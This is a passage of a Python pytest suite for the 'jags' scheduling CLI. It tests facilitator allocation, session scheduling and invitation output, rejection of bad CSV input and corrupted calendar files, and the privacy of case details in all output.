"""End-to-end tests of the ``jags`` command: what a Business Unit administrator relies on.

Every command goes through the real Typer app (``jags.cli.app``) on the
bundled sample workspace (or a corrupted copy of it). The slow scheduling run
happens once per module and is shared.
"""

from __future__ import annotations

import csv
import email
import io
import json
import re
import shutil
import subprocess
import sys
import tempfile
import tomllib
from collections import Counter
from datetime import date, datetime, time, timedelta
from email.message import Message
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from allocator import Policy, WorkingCalendar
from allocator.presets import PRESETS
from jags.bundled import sample_folder
from jags.cli import app
from jags.policies import read_policy_file

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = sample_folder()  # the bundled sample, found as the installed product finds it
LONDON = ZoneInfo("Europe/London")
ON = "2026-11-23"
CONFIRMED = date(2026, 11, 30)
ALLOCATION_COLUMNS = ["request_id", "facilitator_id", "role", "status", "allocate_by", "reason"]
EXPLANATION_COLUMNS = ["request_id", "facilitator_id", "eligible", "code", "detail"]
STATUS_COLUMNS = ["facilitator_id", "code", "detail", "open_load", "max_open"]
PROPOSAL_COLUMNS = [
    "request_id",
    "option",
    "start",
    "end",
    "working_day",
    "required_free",
    "required_busy",
    "unknown",
    "score",
    "reason",
]


# Helpers ---------------------------------------------------------------------------------


def jags(*args: str | Path) -> Result:
    """Run ``jags ARGS`` in-process; stdout and stderr are kept apart."""
    return CliRunner().invoke(app, [str(a) for a in args])


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def header(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return next(csv.reader(handle))


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (relative name → content)."""
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def sample_rows(name: str) -> list[dict[str, str]]:
    return read_csv(SAMPLE / f"{name}.csv")


def private_values() -> set[str]:
    """Case and family references and free-text rationales of the sample requests."""
    values: set[str] = set()
    for row in sample_rows("requests"):
        values |= {row["case_ref"], row["family_ref"], row["preference_rationale"]}
    return {v for v in values if v}


def topics() -> set[str]:
    return {row["topic"] for row in sample_rows("requests") if row["topic"]}


def leaks(text: str) -> list[str]:
    """Private values (and whole-word topics) found in ``text``."""
    found = [v for v in private_values() if v in text]
    found += [t for t in topics() if re.search(rf"(?<![\w-]){re.escape(t)}(?![\w-])", text)]
    return found


def copy_sample(tmp_path: Path) -> Path:
    workspace = tmp_path / "workspace"
    shutil.copytree(SAMPLE, workspace)
    return workspace


def set_cell(path: Path, row: int, column: str, value: str) -> None:
    """Change one cell of a CSV file; ``row`` is the spreadsheet row (header = 1)."""
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    rows[row - 1][rows[0].index(column)] = value
    write_rows(path, rows)


def write_rows(path: Path, rows: list[list[str]]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


def error_lines(result: Result) -> list[str]:
    return result.stderr.splitlines()


def assert_clean_failure(result: Result, out: Path, *expected: str) -> None:
    """Exit 2, a message holding every expected fragment on one line, no traceback."""
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    for fragment in expected:
        assert any(fragment in line for line in error_lines(result)), (
            f"{fragment!r} not on one line of:\n{result.stderr}"
        )
    assert not out.exists(), "nothing may be written on bad input"


def ics_field(ics: bytes, name: str) -> list[str]:
    """Values of an iCalendar property in the VEVENT (lines unfolded)."""
    text = ics.decode("utf-8").replace("\r\n ", "")
    return [
        line.split(":", 1)[1]
        for line in text.split("\r\n")
        if line.split(":", 1)[0].split(";")[0] == name
    ]


def eml_text(path: Path) -> str:
    """Headers and every decoded part of an e-mail."""
    message: Message = email.message_from_bytes(path.read_bytes())
    parts = [str(message.items())]
    for part in message.walk():
        payload: Any = part.get_payload(decode=True)
        if isinstance(payload, bytes):
            parts.append(payload.decode("utf-8", "replace"))
    return "\n".join(parts)


# Shared runs -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def allocated(tmp_path_factory: pytest.TempPathFactory) -> tuple[Result, Path]:
    out = tmp_path_factory.mktemp("allocate") / "out"
    result = jags("allocate", SAMPLE, "--on", ON, "--out", out)
    assert result.exit_code == 0, result.output
    return result, out


@pytest.fixture(scope="module")
def scheduled(
    allocated: tuple[Result, Path], tmp_path_factory: pytest.TempPathFactory
) -> tuple[Result, Path]:
    out = tmp_path_factory.mktemp("schedule") / "out"
    result = jags(
        "schedule",
        SAMPLE,
        "--allocations",
        allocated[1] / "allocations.csv",
        "--confirmed-on",
        CONFIRMED.isoformat(),
        "--on",
        ON,
        "--out",
        out,
    )
    assert result.exit_code == 0, result.output
    return result, out


@pytest.fixture
def schedule_copy(scheduled: tuple[Result, Path], tmp_path: Path) -> Path:
    """A private copy of the schedule folder, for commands that change it."""
    folder = tmp_path / "schedule"
    shutil.copytree(scheduled[1], folder)
    return folder


# The console script ----------------------------------------------------------------------


def test_console_script_runs() -> None:
    script = Path(sys.executable).parent / "jags"
    done = subprocess.run(
        [str(script), "--help"], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    for command in ("allocate", "explain", "schedule", "invite", "demo", "policies"):
        assert command in done.stdout


def test_help_lists_the_commands_in_the_order_of_a_day() -> None:
    # The command modules register on the app as jags.cli imports them; the order is theirs.
    import click
    import typer

    group = typer.main.get_command(app)
    assert group.list_commands(click.Context(group)) == [
        "allocate",
        "explain",
        "schedule",
        "invite",
        "init",
        "intake",
        "record",
        "status",
        "export",
        "backup",
        "purge",
        "report",
        "policies",
        "demo",
        "generate",
        "feedback",
        "scenarios",
    ]


# jags allocate ---------------------------------------------------------------------------


def test_allocate_writes_contract_files(allocated: tuple[Result, Path]) -> None:
    _, out = allocated
    assert sorted(p.name for p in out.iterdir()) == [
        "allocations.csv",
        "explanations.csv",
        "facilitator_status.csv",
    ]
    assert header(out / "allocations.csv") == [
        *ALLOCATION_COLUMNS,
        "rationale",
        "code",
        "batch_date",
        "facilitator_name",
        "facilitator_email",
        "requester_email",
    ]
    assert header(out / "explanations.csv") == EXPLANATION_COLUMNS
    assert header(out / "facilitator_status.csv") == STATUS_COLUMNS


def test_allocate_one_row_per_request_and_every_pair_explained(
    allocated: tuple[Result, Path],
) -> None:
    _, out = allocated
    rows = read_csv(out / "allocations.csv")
    request_ids = [r["request_id"] for r in sample_rows("requests")]
    facilitator_ids = [f["facilitator_id"] for f in sample_rows("facilitators")]
    assert Counter(r["request_id"] for r in rows) == Counter(request_ids)
    for row in rows:
        assert row["status"] in ("allocated", "pinned", "unallocated")
        assert (row["facilitator_id"] == "") == (row["status"] == "unallocated")
        assert row["role"] == ""  # one facilitator per request under the Norfolk policy
        assert date.fromisoformat(row["allocate_by"])
        assert row["reason"].strip()
    # Every facilitator is accounted for, for every request: excluded facilitator-wide
    # (facilitator_status.csv), or by a rule about the case, or eligible with the stage
    # at which another choice won (one row each, or one row for a waiting request).
    status = {s["facilitator_id"]: s for s in read_csv(out / "facilitator_status.csv")}
    assert sorted(status) == sorted(facilitator_ids)
    available = {f for f, s in status.items() if s["code"] == "available"}
    explanations = read_csv(out / "explanations.csv")
    assert {e["eligible"] for e in explanations} <= {"true", "false"}
    for rid in request_ids:
        mine = [e for e in explanations if e["request_id"] == rid]
        named = {e["facilitator_id"] for e in mine if e["facilitator_id"]}
        by_org = {
            f
            for e in mine
            if not e["facilitator_id"] and not json_bool(e["eligible"])
            for f in e["detail"].split(": ", 1)[1].split()
        }
        assert not named & by_org
        waiting = [e for e in mine if not e["facilitator_id"] and json_bool(e["eligible"])]
        counted = int(re.findall(r"\d+", waiting[0]["detail"])[0]) if waiting else 0
        assert len(available - named - by_org) == counted, rid
    given = {(r["request_id"], r["facilitator_id"]) for r in rows if r["facilitator_id"]}
    chosen = {
        (e["request_id"], e["facilitator_id"])
        for e in explanations
        if e["code"] in ("chosen", "pinned")
    }
    assert chosen == given  # nobody is given a request a hard rule excludes them from


def json_bool(text: str) -> bool:
    return {"true": True, "false": False}[text]


def test_allocate_explain_full_lists_every_pair_once(tmp_path: Path) -> None:
    result = jags("allocate", SAMPLE, "--on", ON, "--out", tmp_path, "--explain", "full")
    assert result.exit_code == 0, result.output
    request_ids = [r["request_id"] for r in sample_rows("requests")]
    facilitator_ids = [f["facilitator_id"] for f in sample_rows("facilitators")]
    explanations = read_csv(tmp_path / "explanations.csv")
    pairs = Counter((e["request_id"], e["facilitator_id"]) for e in explanations)
    assert len(explanations) == len(request_ids) * len(facilitator_ids)
    assert set(pairs) == {(r, f) for r in request_ids for f in facilitator_ids}
    assert set(pairs.values()) == {1}
    eligible = {(e["request_id"], e["facilitator_id"]): e["eligible"] for e in explanations}
    for row in read_csv(tmp_path / "allocations.csv"):
        if row["facilitator_id"]:
            assert eligible[row["request_id"], row["facilitator_id"]] == "true"


def test_allocate_refuses_an_unknown_explain_option(tmp_path: Path) -> None:
    result = jags("allocate", SAMPLE, "--on", ON, "--out", tmp_path, "--explain", "some")
    assert result.exit_code == 2
    assert "--explain" in result.stderr
    assert not tmp_path.exists() or not any(tmp_path.iterdir())


def test_allocate_summary_matches_the_files(allocated: tuple[Result, Path]) -> None:
    result, out = allocated
    rows = read_csv(out / "allocations.csv")
    statuses = Counter(r["status"] for r in rows)
    lines = result.stdout.splitlines()
    # The summary first, in words.
    match = re.fullmatch(
        r"Allocation for Mon 23 Nov 2026 \(norfolk policy\): (\d+) of (\d+) "
        r"requests allocated; (\d+) waiting, none of them past their "
        r"allocate-by date\.",
        lines[0],
    )
    assert match, result.stdout
    given, total, waiting = map(int, match.groups())
    assert total == len(rows)
    assert given == statuses["allocated"] + statuses["pinned"]
    assert waiting == statuses["unallocated"]
    assert (
        lines[1] == f"{statuses['pinned']} kept the facilitator named for them or their "
        "follow-up's facilitator."
    )
    # Then the waiting requests, each with the first sentence of its reason.
    assert lines[2] == f"Waiting ({waiting}), oldest first:"
    for line, row in zip(
        lines[3 : 3 + waiting], [r for r in rows if r["status"] == "unallocated"], strict=True
    ):
        due = date.fromisoformat(row["allocate_by"])
        assert line.startswith(f"  {row['request_id']} (allocate by {due:%a %d %b}): ")
        assert row["reason"].startswith("Waiting: " + line.split("): ", 1)[1].rstrip("."))
    # Then the requests allocated late, counted and named (the first ten).
    late = [r["request_id"] for r in rows if r["status"] != "unallocated" and r["allocate_by"] < ON]
    assert lines[3 + waiting] == (
        f"Allocated after their allocate-by date ({len(late)}): "
        f"{', '.join(late[:10])} and {len(late) - 10} more."
    )
    assert lines[-1] == f"Files: {out} (allocations.csv, explanations.csv, facilitator_status.csv)"
    # Everything else is in the files: a screen, not a table of every request.
    assert len(lines) <= 12 and max(map(len, lines)) <= 160
    assert "stage_" not in result.stdout and "R-0011" not in result.stdout


def test_allocate_uk_date_gives_identical_files(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    result = jags("allocate", SAMPLE, "--on", "23/11/2026", "--out", tmp_path / "uk")
    assert result.exit_code == 0, result.output
    assert snapshot(tmp_path / "uk") == snapshot(allocated[1])


def test_allocate_twice_gives_identical_files(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    result = jags("allocate", SAMPLE, "--on", ON, "--out", tmp_path / "again")
    assert result.exit_code == 0, result.output
    assert snapshot(tmp_path / "again") == snapshot(allocated[1])


def test_allocate_xlsx_is_stable_and_readable(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    for name in ("one", "two"):
        result = jags("allocate", SAMPLE, "--on", ON, "--format", "xlsx", "--out", tmp_path / name)
        assert result.exit_code == 0, result.output
    one, two = snapshot(tmp_path / "one"), snapshot(tmp_path / "two")
    assert sorted(one) == [
        "allocations.csv",
        "allocations.xlsx",
        "explanations.csv",
        "facilitator_status.csv",
    ]
    assert one == two
    assert {k: v for k, v in one.items() if k.endswith(".csv")} == snapshot(allocated[1])
    book = openpyxl.load_workbook(tmp_path / "one" / "allocations.xlsx", read_only=True)
    try:
        assert book.sheetnames == ["Summary", "Allocations", "Explanations", "Facilitators"]
        sheet_rows = list(book["Allocations"].iter_rows(values_only=True))
        csv_rows = read_csv(allocated[1] / "allocations.csv")
        assert list(sheet_rows[0])[:6] == ALLOCATION_COLUMNS
        assert [r[0] for r in sheet_rows[1:]] == [r["request_id"] for r in csv_rows]
        assert [r[1] or "" for r in sheet_rows[1:]] == [r["facilitator_id"] for r in csv_rows]
        explanations = list(book["Explanations"].iter_rows(values_only=True))
        assert len(explanations) - 1 == len(read_csv(allocated[1] / "explanations.csv"))
        facilitators = list(book["Facilitators"].iter_rows(values_only=True))
        assert len(facilitators) - 1 == len(read_csv(allocated[1] / "facilitator_status.csv"))
        summary = {r[0]: r[1] for r in book["Summary"].iter_rows(values_only=True) if len(r) > 1}
        assert summary["Policy"] == "norfolk"
        assert summary["Requests"] == (
            "23 of 25 requests allocated; 2 waiting, none of them past their allocate-by date."
        )
    finally:
        book.close()


def test_allocate_bedfordshire_gives_a_lead_and_a_co(tmp_path: Path) -> None:
    result = jags("allocate", SAMPLE, "--on", ON, "--policy", "bedfordshire", "--out", tmp_path)
    assert result.exit_code == 0, result.output
    organisation = {f["facilitator_id"]: f["organisation"] for f in sample_rows("facilitators")}
    lead_ok = {f["facilitator_id"]: f["can_lead"] != "false" for f in sample_rows("facilitators")}
    by_request: dict[str, list[dict[str, str]]] = {}
    for row in read_csv(tmp_path / "allocations.csv"):
        by_request.setdefault(row["request_id"], []).append(row)
    assert set(by_request) == {r["request_id"] for r in sample_rows("requests")}
    given = 0
    for rid, rows in by_request.items():
        if rows[0]["status"] == "unallocated":
            assert len(rows) == 1 and rows[0]["facilitator_id"] == "", rid
            continue
        given += 1
        assert sorted(r["role"] for r in rows) == ["co", "lead"], rid
        lead, co = sorted(rows, key=lambda r: r["role"] != "lead")
        assert lead["facilitator_id"] != co["facilitator_id"]
        assert organisation[lead["facilitator_id"]] != organisation[co["facilitator_id"]], rid
        assert lead_ok[lead["facilitator_id"]], rid
    assert given > 0


def test_allocate_reads_a_policy_file(allocated: tuple[Result, Path], tmp_path: Path) -> None:
    policy = tmp_path / "slower.toml"
    policy.write_text(
        'base = "norfolk"\nname = "slower-norfolk"\nallocate_within_days = 5\n', encoding="utf-8"
    )
    result = jags("allocate", SAMPLE, "--on", ON, "--policy", policy, "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert "slower-norfolk policy" in result.stdout
    norfolk = {
        r["request_id"]: r["allocate_by"] for r in read_csv(allocated[1] / "allocations.csv")
    }
    slower = {
        r["request_id"]: r["allocate_by"] for r in read_csv(tmp_path / "out" / "allocations.csv")
    }
    calendar = WorkingCalendar()
    for rid, due in norfolk.items():  # three more working days to allocate each request
        assert slower[rid] == calendar.add_working_days(date.fromisoformat(due), 3).isoformat()


# Bad input: exit 2, file, row and column named, nothing written --------------------------


def _missing_file(ws: Path) -> None:
    (ws / "facilitators.csv").unlink()


def _missing_column(ws: Path) -> None:
    path = ws / "facilitators.csv"
    path.write_text(path.read_text("utf-8").replace(",sector,", ",sektor,", 1), "utf-8")


def _duplicate_id(ws: Path) -> None:
    path = ws / "facilitators.csv"
    lines = path.read_text("utf-8").splitlines(keepends=True)
    path.write_text("".join([*lines, lines[2]]), "utf-8")  # F002 again, as row 42


def _unknown_reference(ws: Path) -> None:
    set_cell(ws / "participants.csv", 5, "request_id", "R-9999")


def _impossible_date(ws: Path) -> None:
    set_cell(ws / "facilitators.csv", 4, "trained_on", "31/02/2026")


def _not_a_number(ws: Path) -> None:
    set_cell(ws / "facilitators.csv", 3, "max_open", "three")


def _binary_garbage(ws: Path) -> None:
    (ws / "requests.csv").write_bytes(bytes(range(256)) * 20)


BAD_WORKSPACES = {
    "missing file": (_missing_file, ["facilitators.csv", "not found"]),
    "missing column": (_missing_column, ["facilitators.csv, column sector: required column"]),
    "duplicate id": (
        _duplicate_id,
        ["facilitators.csv, row 42, column facilitator_id", "duplicate"],
    ),
    "unknown reference": (
        _unknown_reference,
        ["participants.csv, row 5, column request_id", "R-9999"],
    ),
    "impossible date": (
        _impossible_date,
        ["facilitators.csv, row 4, column trained_on", "31/02/2026"],
    ),
    "not a number": (_not_a_number, ["facilitators.csv, row 3, column max_open", "three"]),
    "binary file": (_binary_garbage, ["requests.csv:"]),
}


@pytest.mark.parametrize("case", list(BAD_WORKSPACES))
def test_bad_workspace_is_refused_and_nothing_written(case: str, tmp_path: Path) -> None:
    corrupt, expected = BAD_WORKSPACES[case]
    workspace = copy_sample(tmp_path)
    corrupt(workspace)
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert_clean_failure(result, out, *expected)
    assert result.stdout == ""
    assert sorted(p.name for p in tmp_path.iterdir()) == ["workspace"]  # no staging left


def test_every_error_in_a_file_is_reported(tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    _not_a_number(workspace)
    _impossible_date(workspace)
    set_cell(workspace / "facilitators.csv", 6, "can_lead", "perhaps")
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert_clean_failure(
        result,
        out,
        "facilitators.csv, row 3, column max_open",
        "facilitators.csv, row 4, column trained_on",
        "facilitators.csv, row 6, column can_lead",
    )


def test_bad_input_leaves_an_existing_output_folder_unchanged(tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "allocations.csv").write_bytes(b"yesterday's allocations\n")
    (out / "notes.txt").write_bytes(b"mine")
    before = snapshot(out)
    _duplicate_id(workspace)
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert result.exit_code == 2
    assert snapshot(out) == before


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--on", "31/02/2026"], ["--on", "31/02/2026"]),
        (["--on", "11/23/2026"], ["--on", "11/23/2026"]),  # never read as a US date
        (["--on", ON, "--policy", "nowhere"], ["nowhere", "norfolk", "bedfordshire"]),
        (["--on", ON, "--format", "pdf"], ["--format", "pdf"]),
    ],
)
def test_bad_options_are_refused(args: list[str], expected: list[str], tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = jags("allocate", SAMPLE, *args, "--out", out)
    assert_clean_failure(result, out, *expected)


def test_output_folder_that_is_a_file_is_an_error_not_a_traceback(tmp_path: Path) -> None:
    target = tmp_path / "out"
    target.write_bytes(b"not a folder")
    result = jags("allocate", SAMPLE, "--on", ON, "--out", target)
    assert result.exit_code != 0
    assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert "not a folder" in result.stderr
    assert target.read_bytes() == b"not a folder"


# Privacy ---------------------------------------------------------------------------------


def test_allocate_output_never_shows_case_details(allocated: tuple[Result, Path]) -> None:
    result, out = allocated
    assert private_values()  # the check below is not vacuous
    assert leaks(result.stdout) == []
    assert leaks(result.stderr) == []
    assert leaks(" ".join(p.name for p in out.rglob("*"))) == []


def test_schedule_output_never_shows_case_details(scheduled: tuple[Result, Path]) -> None:
    result, out = scheduled
    assert leaks(result.stdout) == []
    assert leaks(result.stderr) == []
    assert leaks(" ".join(p.relative_to(out).as_posix() for p in out.rglob("*"))) == []
    invites = sorted((out / "invites").iterdir())
    assert invites
    for path in invites:
        text = eml_text(path) if path.suffix == ".eml" else path.read_text("utf-8")
        assert "Joint Agency Group Supervision" in text.replace("\r\n ", "")
        found = [v for v in private_values() if v in text]
        assert found == [], path.name


def test_error_output_never_shows_a_case_reference(tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    requests = workspace / "requests.csv"
    set_cell(requests, 2, "received_at", "31/02/2026 10:00")
    set_cell(requests, 3, "requester_email", "not-an-email")
    set_cell(requests, 4, "mode", "carrier pigeon")
    set_cell(requests, 5, "follow_up_of", "H-9999")
    set_cell(requests, 6, "case_ref", "")
    with requests.open("a", encoding="utf-8") as handle:  # R-0002 twice
        handle.write(requests.read_text("utf-8").splitlines()[2] + "\n")
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert_clean_failure(
        result,
        out,
        "requests.csv, row 2, column received_at",
        "requests.csv, row 3, column requester_email",
        "requests.csv, row 4, column mode",
        "requests.csv, row 5, column follow_up_of",
        "requests.csv, row 6, column case_ref",
    )
    assert leaks(result.output) == []


# jags explain ----------------------------------------------------------------------------


def test_explain_gives_the_reason_and_why_not(allocated: tuple[Result, Path]) -> None:
    result = jags("explain", SAMPLE, "R-0024", "--on", ON)
    assert result.exit_code == 0, result.output
    reason = {r["request_id"]: r["reason"] for r in read_csv(allocated[1] / "allocations.csv")}
    lines = result.stdout.splitlines()
    assert lines[0].startswith("R-0024: ")
    assert " ".join(result.stdout.split()).startswith(f"R-0024: {reason['R-0024']}")
    assert any("at capacity" in line for line in lines)
    assert any("share an organisation" in line for line in lines)
    # every excluded facilitator is accounted for, each on a grouped or single line
    ids = {f["facilitator_id"] for f in sample_rows("facilitators")}
    mentioned = set(re.findall(r"\bF\d{3}\b", result.stdout))
    assert mentioned == ids
    assert leaks(result.output) == []
    # the stage at which another choice won, in words (the code is in explanations.csv)
    assert "stage_" not in result.stdout
    assert any(
        line.endswith("(places went to R-0005): older requests come first") for line in lines
    )


def test_explain_in_the_old_form_still_works_with_a_note() -> None:
    new = jags("explain", SAMPLE, "R-0010", "--on", ON)
    old = jags("explain", "R-0010", "--workspace", SAMPLE, "--on", ON)
    assert new.exit_code == old.exit_code == 0, old.output
    assert old.stdout == new.stdout
    assert "deprecated; use 'jags explain W REQUEST'" in old.stderr
    assert new.stderr == ""
    both = jags("explain", SAMPLE, "R-0010", "--workspace", SAMPLE, "--on", ON)
    assert both.exit_code == 2 and "not both" in both.stderr
    missing = jags("explain", SAMPLE, "--on", ON)
    assert missing.exit_code == 2 and "jags explain WORKSPACE REQUEST --on DATE" in missing.stderr


def test_explain_pinned_request_keeps_the_rationale_private() -> None:
    result = jags("explain", SAMPLE, "R-0010", "--on", ON)
    assert result.exit_code == 0, result.output
    assert "F029" in result.stdout and "Pinned" in result.stdout
    assert leaks(result.output) == []


def test_explain_unknown_request_is_a_clear_error() -> None:
    result = jags("explain", SAMPLE, "R-9999", "--on", ON)
    assert result.exit_code == 2
    assert isinstance(result.exception, SystemExit)
    assert "R-9999" in result.stderr and "not in" in result.stderr
    assert "Traceback" not in result.output


# jags schedule ---------------------------------------------------------------------------


def test_schedule_writes_proposals_invites_and_manifest(
    scheduled: tuple[Result, Path], allocated: tuple[Result, Path]
) -> None:
    result, out = scheduled
    assert header(out / "proposals.csv")[:10] == PROPOSAL_COLUMNS
    given = {
        r["request_id"]
        for r in read_csv(allocated[1] / "allocations.csv")
        if r["status"] != "unallocated"
    }
    proposals = read_csv(out / "proposals.csv")
    assert {p["request_id"] for p in proposals} == given
    first = {p["request_id"]: p for p in proposals if p["option"] == "1"}
    in_window = {rid for rid, p in first.items() if p["outside"] == "false"}
    assert in_window, "the sample places sessions in their window"
    invites = {p.name for p in (out / "invites").iterdir()}
    assert invites == {f"{rid}.{ext}" for rid in in_window for ext in ("ics", "eml")}
    manifest = json.loads((out / "schedule.json").read_text("utf-8"))
    assert set(manifest["sessions"]) == given
    assert sorted(manifest["outbox"]) == sorted(in_window)
    assert f"{len(in_window)} invitation(s) written" in result.stdout


def test_schedule_times_are_in_the_window_and_working_hours(scheduled: tuple[Result, Path]) -> None:
    _, out = scheduled
    policy = Policy.preset("norfolk")
    calendar = WorkingCalendar(policy.closure_days)
    proposals = read_csv(out / "proposals.csv")
    checked = 0
    for p in proposals:
        start, end = datetime.fromisoformat(p["start"]), datetime.fromisoformat(p["end"])
        assert start.utcoffset() is not None and end.utcoffset() is not None, p["start"]
        assert re.search(r"[+-]\d{2}:\d{2}$", p["start"]) and re.search(
            r"[+-]\d{2}:\d{2}$", p["end"]
        )
        local, local_end = start.astimezone(LONDON), end.astimezone(LONDON)
        assert end - start == timedelta(minutes=90)
        assert time(9) <= local.time() and local_end.time() <= time(17)
        assert local_end.date() == local.date()
        assert local.minute % 15 == 0 and local.second == 0
        assert calendar.is_working_day(local.date())
        day = int(p["working_day"])
        assert calendar.add_working_days(CONFIRMED, day) == local.date()
        if p["outside"] == "false":
            assert 10 <= day <= 15, p
            checked += 1
    assert checked


def test_schedule_invitation_is_for_option_one(scheduled: tuple[Result, Path]) -> None:
    _, out = scheduled
    first = {p["request_id"]: p for p in read_csv(out / "proposals.csv") if p["option"] == "1"}
    for path in sorted((out / "invites").glob("*.ics")):
        ics = path.read_bytes()
        assert ics_field(ics, "METHOD") == ["REQUEST"]
        assert ics_field(ics, "SEQUENCE") == ["0"]
        start = datetime.fromisoformat(first[path.stem]["start"]).astimezone(LONDON)
        assert ics_field(ics, "DTSTART")[-1] == f"{start:%Y%m%dT%H%M%S}"
        assert path.stem in ics_field(ics, "SUMMARY")[0]


def _allocations_copy(allocated: tuple[Result, Path], tmp_path: Path) -> Path:
    path = tmp_path / "allocations.csv"
    shutil.copyfile(allocated[1] / "allocations.csv", path)
    return path


def test_schedule_refuses_allocations_without_a_column(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    path = _allocations_copy(allocated, tmp_path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    drop = rows[0].index("status")
    write_rows(path, [[c for i, c in enumerate(r) if i != drop] for r in rows])
    out = tmp_path / "out"
    result = jags(
        "schedule",
        SAMPLE,
        "--allocations",
        path,
        "--confirmed-on",
        "2026-11-30",
        "--on",
        ON,
        "--out",
        out,
    )
    assert_clean_failure(result, out, "allocations.csv, row 1", "status")


def test_schedule_refuses_an_unknown_request(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    path = _allocations_copy(allocated, tmp_path)
    set_cell(path, 4, "request_id", "R-9999")
    set_cell(path, 6, "facilitator_id", "F999")
    out = tmp_path / "out"
    result = jags(
        "schedule",
        SAMPLE,
        "--allocations",
        path,
        "--confirmed-on",
        "2026-11-30",
        "--on",
        ON,
        "--out",
        out,
    )
    assert_clean_failure(
        result,
        out,
        "allocations.csv, row 4, column request_id",
        "R-9999",
        "allocations.csv, row 6, column facilitator_id",
    )


def test_schedule_refuses_a_bad_confirmation_date(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    result = jags(
        "schedule",
        SAMPLE,
        "--allocations",
        allocated[1] / "allocations.csv",
        "--confirmed-on",
        "30/13/2026",
        "--out",
        out,
    )
    assert_clean_failure(result, out, "--confirmed-on", "30/13/2026")


def _bad_calendars(workspace: Path) -> tuple[str, str, str]:
    """Spoil three attendees' exports: unreadable, a link to /dev/zero, a folder."""
    names = sorted(p.name for p in (workspace / "calendars").glob("*.ics"))
    broken, zero, folder = names[0], names[1], names[2]
    calendars = workspace / "calendars"
    (calendars / broken).write_bytes(
        (ROOT / "tests" / "data" / "calendars" / "outlook_broken_dtstart.ics").read_bytes()
    )
    (calendars / zero).unlink()
    (calendars / zero).symlink_to("/dev/zero")
    (calendars / folder).unlink()
    (calendars / folder).mkdir()
    return broken, zero, folder


def _limited_schedule(
    workspace: Path, allocated: tuple[Result, Path], out: Path, *flags: str
) -> subprocess.CompletedProcess[str]:
    """``jags schedule`` in its own process, with 3 GiB of address space (reading /dev/zero
    would exhaust it); no traceback whatever the outcome."""
    import resource

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))

    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "jags.cli",
            "schedule",
            str(workspace),
            "--allocations",
            str(allocated[1] / "allocations.csv"),
            "--confirmed-on",
            "2026-11-30",
            "--out",
            str(out),
            *flags,
        ],
        capture_output=True,
        text=True,
        preexec_fn=limit,
        check=False,
    )
    assert "Traceback" not in done.stderr
    return done


def test_schedule_goes_on_without_unreadable_calendars_and_names_them(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    workspace = copy_sample(tmp_path)
    broken, zero, folder = _bad_calendars(workspace)
    out = tmp_path / "out"
    done = _limited_schedule(workspace, allocated, out, "--no-cache")
    assert done.returncode == 0, done.stderr
    warnings = done.stderr.splitlines()
    assert any(
        f"calendars/{broken}, line 9: the calendar has an unreadable DTSTART" in line
        and "is unknown" in line
        for line in warnings
    ), done.stderr
    assert any(f"calendars/{zero}: not a regular file" in line for line in warnings)
    assert any(f"calendars/{folder}: a folder, not a calendar file" in line for line in warnings)
    assert (out / "proposals.csv").is_file()


@pytest.mark.parametrize("spoil", ["broken", "zero", "folder"])
def test_schedule_strict_stops_at_a_calendar_that_cannot_be_read(
    allocated: tuple[Result, Path], tmp_path: Path, spoil: str
) -> None:
    workspace = copy_sample(tmp_path)
    spoiled = dict(zip(("broken", "zero", "folder"), _bad_calendars(workspace), strict=True))
    for kind, name in spoiled.items():  # keep only the one spoiled export under test
        if kind != spoil:
            path = workspace / "calendars" / name
            path.unlink() if not path.is_dir() or path.is_symlink() else path.rmdir()
    out = tmp_path / "out"
    done = _limited_schedule(workspace, allocated, out, "--strict")
    assert done.returncode == 2, done.stderr
    expected = {
        "broken": f"calendars/{spoiled['broken']}, line 9: the calendar has an unreadable "
        "DTSTART in a VEVENT",
        "zero": f"calendars/{spoiled['zero']}: not a regular file",
        "folder": f"calendars/{spoiled['folder']}: a folder, not a calendar file",
    }[spoil]
    assert expected in done.stderr
    assert not out.exists()


def test_calendar_aware_allocate_strict_names_the_unreadable_calendar(tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    facilitator = sample_rows("facilitators")[0]["email"]
    export = workspace / "calendars" / f"{facilitator}.ics"
